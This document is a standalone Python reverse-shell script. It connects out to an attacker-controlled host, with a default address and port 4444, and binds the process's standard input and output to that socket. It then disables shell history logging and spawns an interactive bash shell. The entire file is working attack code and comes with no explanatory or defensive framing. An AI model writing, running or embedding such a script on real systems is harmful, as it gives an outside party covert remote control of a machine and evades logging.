#!/usr/bin/env python3
import socket, os, pty, sys

H = sys.argv[1] if len(sys.argv) > 1 else "192.0.2.44"
P = int(sys.argv[2]) if len(sys.argv) > 2 else 4444

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((H, P))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.putenv("HISTFILE", "/dev/null")
os.putenv("TERM", "xterm")
pty.spawn("/bin/bash")
s.close()
